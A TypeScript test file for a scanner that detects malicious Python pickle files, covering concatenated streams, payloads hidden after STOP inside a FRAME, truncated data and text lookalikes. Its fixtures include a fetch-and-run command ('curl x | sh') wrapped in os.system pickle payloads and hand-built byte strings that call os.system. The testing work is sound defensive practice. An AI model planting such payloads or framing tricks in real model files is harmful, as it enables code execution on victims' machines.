import { describe, expect, it } from "vitest";
import { analyseBytes, rules, scanBytes } from "../../pickle/test-helpers/analyse-bytes.js";
import {
  BENIGN_FIXTURES,
  numpyArrayP4,
  orderedDictP4,
  osSystemP0,
  osSystemP4,
  sklearnP0,
  torchStateDict,
} from "../../pickle/test-helpers/fixtures.js";
import { concat, pickle } from "../../pickle/test-helpers/pickle-builder.js";
import { MemorySource } from "../../reader/byte-source.js";
import { scanSource } from "../../scan.js";
import { le } from "../test-helpers/bytes.js";

const CMD = "curl x | sh";
const names = (r: { imports: { module: string; name: string }[] }) =>
  r.imports.map((i) => `${i.module}.${i.name}`);

describe("back-to-back pickles", () => {
  it("accepts several benign pickles in one file and analyses them all", async () => {
    const r = await scanBytes(concat(orderedDictP4(), torchStateDict(), numpyArrayP4()));
    expect(r.verdict).toBe("safe");
    expect(names(r)).toEqual(
      expect.arrayContaining(["collections.OrderedDict", "torch._utils._rebuild_tensor_v2", "numpy.dtype"]),
    );
    expect(r.findings).toEqual([]);
  });

  it("finds a payload in a second pickle after a benign one", async () => {
    const first = torchStateDict();
    const r = await scanBytes(concat(first, osSystemP4(CMD)));
    expect(r.verdict).toBe("dangerous");
    const payload = osSystemP4(CMD);
    expect(r.imports.find((i) => i.name === "system")?.location.offset).toBe(
      first.length + payload.indexOf(0x93),
    );
  });

  it("finds a payload in the tenth pickle", async () => {
    const parts = Array.from({ length: 9 }, () => orderedDictP4());
    const r = await scanBytes(concat(...parts, osSystemP0(CMD)));
    expect(r.verdict).toBe("dangerous");
  });
});

describe("a second pickle after STOP inside a FRAME (loaders disagree where it starts)", () => {
  /** Bytes from a string of code points below 256 (as Python's b'...' literals). */
  const latin1 = (text: string) => Uint8Array.from(text, (c) => c.charCodeAt(0));
  /** FRAME opcode with its 8-byte little-endian length, then the framed bytes. */
  const framed = (body: Uint8Array) => concat(latin1("\x95"), le(8, body.length), body);
  // Issue 13's reproduction: M = os.system('true') in protocol 4; a protocol-4 pickle `[]` whose FRAME
  // goes on past STOP over "C <len(M)-1>", then M right after the frame. Python's unpickler (and the C
  // one on a BytesIO) starts the next pickle at the frame's end: M runs. The C one on a buffered file
  // starts right after STOP and reads "C <n>" + M as a bytes object.
  const M = latin1("\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x04true\x85R.");
  const F = concat(latin1("]\x94.C"), Uint8Array.of(M.length - 1));
  const file = concat(latin1("\x80\x04"), framed(F), M);

  it("finds the payload at the frame's end and reports the disagreement", async () => {
    const r = await scanBytes(file);
    expect(r.verdict).toBe("dangerous");
    expect(rules(r.findings)).toContain("pickle/stop-inside-frame");
    expect(r.imports.find((i) => i.name === "system")?.location.offset).toBe(
      2 + 9 + F.length + M.indexOf(0x93),
    );
  });

  it("still finds a payload right after STOP inside the frame (the C unpickler on a buffered file runs it)", async () => {
    const r = await scanBytes(
      concat(latin1("\x80\x04"), framed(concat(latin1("]\x94."), M)), orderedDictP4()),
    );
    expect(r.verdict).toBe("dangerous");
    expect(rules(r.findings)).toContain("pickle/stop-inside-frame");
  });

  it("accepts well-formed framed pickles back to back (each frame ends at its STOP)", async () => {
    const one = concat(latin1("\x80\x04"), framed(latin1("]\x94.")));
    const r = await scanBytes(concat(one, one, orderedDictP4()));
    expect(r.verdict).toBe("safe");
    expect(r.findings).toEqual([]);
  });
});

describe("broken streams keep their findings and are never safe", () => {
  it("keeps a payload found before the stream breaks (no STOP)", async () => {
    const b = pickle().proto(2).callGlobal("os", "system", CMD).binint1(1);
    const r = await scanBytes(b.bytes());
    expect(r.verdict).toBe("dangerous");
    expect(rules(r.findings)).toContain("pickle/truncated");
  });

  it("keeps a payload found before an unknown opcode", async () => {
    const r = await scanBytes(pickle().proto(2).callGlobal("os", "system", CMD).raw(0xff, 0, 0).bytes());
    expect(r.verdict).toBe("dangerous");
    expect(rules(r.findings)).toContain("pickle/unknown-opcode");
  });

  it("keeps a payload of a first pickle when the second one is truncated", async () => {
    const second = torchStateDict();
    const r = await scanBytes(concat(osSystemP4(CMD), second.subarray(0, 100)));
    expect(r.verdict).toBe("dangerous");
    expect(rules(r.findings)).toContain("pickle/truncated");
  });

  it("reports a benign stream cut anywhere after its PROTO as an error, never safe", async () => {
    for (const [name, make] of Object.entries(BENIGN_FIXTURES)) {
      const bytes = make();
      if (bytes[0] !== 0x80) continue;
      for (let cut = 2; cut < bytes.length; cut++) {
        const r = await scanSource(new MemorySource(bytes.subarray(0, cut)), "cut.pkl");
        expect(r.verdict, `${name} cut at ${cut}`).not.toBe("safe");
        expect(r.format, `${name} cut at ${cut}`).toBe("pickle");
      }
    }
  });

  it("reports a protocol 0 stream cut after its first import as an error, never safe", async () => {
    const bytes = sklearnP0();
    const firstImportEnd = "ccopy_reg\n_reconstructor\n".length;
    for (let cut = firstImportEnd; cut < bytes.length; cut++) {
      const r = await scanSource(new MemorySource(bytes.subarray(0, cut)), "cut.pkl");
      expect(r.verdict, `cut at ${cut}`).toBe("error");
    }
  });

  it("reports a payload stream cut anywhere after the import as dangerous", async () => {
    const bytes = osSystemP4(CMD);
    const afterImport = bytes.indexOf(0x93) + 1;
    for (let cut = afterImport; cut < bytes.length; cut++) {
      const r = await scanSource(new MemorySource(bytes.subarray(0, cut)), "cut.pkl");
      expect(r.verdict, `cut at ${cut}`).toBe("dangerous");
    }
  });

  it("flags bytes after the last STOP that are not a pickle", async () => {
    const r = await scanBytes(concat(orderedDictP4(), new Uint8Array([0, 0, 0, 0])));
    expect(r.verdict).toBe("suspicious");
    expect(rules(r.findings)).toEqual(["pickle/trailing-data"]);
    const text = await scanBytes(concat(orderedDictP4(), new TextEncoder().encode("garbage")));
    expect(rules(text.findings)).toEqual(["pickle/trailing-data"]);
  });

  it("treats junk after STOP that imports something as a pickle of its own", async () => {
    const r = await scanBytes(concat(orderedDictP4(), new TextEncoder().encode("cos\nsystem\n")));
    expect(r.verdict).toBe("dangerous");
  });
});

describe("not a pickle", () => {
  it("leaves text that starts with an opcode byte to other formats", async () => {
    for (const text of ["(hello world)\n", "I am text\n", "Notes: 1. 2.\n", "}\n"]) {
      const r = await scanSource(new MemorySource(new TextEncoder().encode(text)), "notes.txt");
      expect(r.format, text).not.toBe("pickle");
      expect(r.verdict, text).toBe("safe");
    }
  });

  it("takes a file named as a pickle that starts with a valid PROTO for a broken pickle, however short", async () => {
    const r = await scanSource(new MemorySource(Uint8Array.of(0x80, 4, 0x95)), "x.pkl");
    expect(r).toMatchObject({ format: "pickle", verdict: "error" });
    const bad = await scanSource(new MemorySource(Uint8Array.of(0x80, 9, 0x4e, 0x2e)), "x");
    expect(bad.format).not.toBe("pickle");
  });

  it("leaves bytes whose stream breaks before importing or calling anything to other formats", async () => {
    // A Type 1 font (.pfb) starts with 0x80 0x01, a PROTO 1 the loader accepts; then it breaks.
    const pfb = concat(
      Uint8Array.of(0x80, 0x01, 0x8b, 0x05, 0, 0),
      new TextEncoder().encode("%!PS-AdobeFont-1.0"),
    );
    const r = await scanSource(new MemorySource(pfb), "font.pfb");
    expect(r).toMatchObject({ format: "unknown", verdict: "safe" });
  });

  it("reports random binary starting with EXT1/EXT2 (nothing registered to import) as unknown, not error", async () => {
    let seed = 7;
    const next = () => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed >>> 16;
    };
    const verdicts = new Set<string>();
    for (let n = 0; n < 300; n++) {
      const bytes = Uint8Array.from({ length: 512 }, () => next() & 0xff);
      bytes[0] = n % 2 === 0 ? 0x82 : 0x83;
      const r = await scanSource(new MemorySource(bytes), `random-${n}.dat`);
      expect(r.format, `random file ${n}`).not.toBe("pickle");
      verdicts.add(r.verdict);
    }
    expect([...verdicts]).toEqual(["safe"]);
  });

  it("reads repository text files that start with an opcode byte as text", async () => {
    const files: Record<string, string> = {
      "requirements.txt": "certifi==2023.7.22\ncharset-normalizer==3.2.0\nidna==3.4\n",
      "config.yaml": "compute_environment: LOCAL_MACHINE\ndistributed_type: 'NO'\nmixed_precision: fp16\n",
      "errors.py": "class Foo(Exception):\n    pass\n\n\nclass Bar(Foo):\n    pass\n",
      "index.ts": "const x = 1;\nexport default x;\n",
      "RelNotes.txt": "Git v2.11.3 Release Notes\n=========================\n\nFixes since v2.11.2\n",
      "scheduler.cpp": "#include <vector>\n\tint main() { return 0; }\n",
      changelog: "ca-certificates (20230311) unstable; urgency=medium\n\n  * Update\n",
      NOTES: "(c) 2024 The Authors. 1. Do this. 2. Do that.\n",
      "data.jsonl": '{"text": "hello"}\n{"text": "world"}\n',
    };
    for (const [name, text] of Object.entries(files)) {
      const r = await scanSource(new MemorySource(new TextEncoder().encode(text)), name);
      expect(r, name).toMatchObject({ format: "text", verdict: "safe", findings: [] });
    }
  });

  it("keeps a protocol 0 pickle that is valid text and imports before it breaks", async () => {
    const imports = await scanSource(
      new MemorySource(new TextEncoder().encode("ccollections\nOrderedDict\n!\n")),
      "notes.txt",
    );
    expect(imports).toMatchObject({ format: "pickle", verdict: "error" });
    const payload = await scanSource(
      new MemorySource(new TextEncoder().encode("cos\nsystem\n(S'id'\ntR!\n")),
      "notes.txt",
    );
    expect(payload).toMatchObject({ format: "pickle", verdict: "dangerous" });
  });

  it("stops at the first import the loader cannot resolve: what follows never runs", async () => {
    const text = "c!not a module\nname\ncos\nsystem\n(S'id'\ntR.";
    const r = await scanSource(new MemorySource(new TextEncoder().encode(text)), "notes.txt");
    expect(r).toMatchObject({ format: "text", verdict: "safe" });
  });

  it("reads a minified script whose first line is longer than any import name as text", async () => {
    const js = `const __vite__mapDeps=(i,m=__vite__mapDeps,d=(m.f||(m.f=[${'"./a.js",'.repeat(2000)}])))=>i;\n`;
    const r = await scanSource(new MemorySource(new TextEncoder().encode(js)), "uiMode.js");
    expect(r).toMatchObject({ format: "text", verdict: "safe" });
  });

  it("keeps an import name too long to analyse a pickle error when it could be a module", async () => {
    const text = `c${"a".repeat(5000)}\nsystem\n.`;
    const r = await scanSource(new MemorySource(new TextEncoder().encode(text)), "notes.txt");
    expect(r).toMatchObject({ format: "pickle", verdict: "error" });
  });

  it("reports text named as a pickle as a broken pickle", async () => {
    const r = await scanSource(
      new MemorySource(new TextEncoder().encode("class Foo(Exception):\n")),
      "model.pkl",
    );
    expect(r).toMatchObject({ format: "pickle", verdict: "error" });
  });

  it("keeps a text pickle whose analysis reaches a bound (the loader would read on)", async () => {
    const text = `(${"I1\n".repeat(50)}`;
    const r = await scanSource(new MemorySource(new TextEncoder().encode(text)), "notes.txt", {
      limits: { maxPickleOpcodes: 20 },
    });
    expect(r).toMatchObject({ format: "pickle", verdict: "error" });
  });

  it("accepts a well-formed pickle named like anything", async () => {
    const r = await scanSource(new MemorySource(osSystemP4(CMD)), "cat.jpg");
    expect(r).toMatchObject({ format: "pickle", verdict: "dangerous" });
  });
});

describe("limits on streams per file", () => {
  it("accepts maxPicklesPerFile streams and rejects one more", async () => {
    const one = orderedDictP4();
    const at = await scanBytes(concat(one, one, one), { limits: { maxPicklesPerFile: 3 } });
    expect(at.verdict).toBe("safe");
    const over = await scanBytes(concat(one, one, one, one), { limits: { maxPicklesPerFile: 3 } });
    expect(over.verdict).toBe("error");
    expect(rules(over.findings)).toEqual(["pickle/too-many-streams"]);
    expect(over.findings[0]?.message).toMatch(/more than 3 pickle streams/);
  });
});

describe("analysis starting inside a file", () => {
  it("reports offsets from the start of the file", async () => {
    const prefix = torchStateDict();
    const payload = osSystemP4(CMD);
    const a = await analyseBytes(concat(prefix, payload), {}, prefix.length);
    expect(a.start).toBe(prefix.length);
    expect(a.imports[0]?.offset).toBe(prefix.length + payload.indexOf(0x93));
  });
});
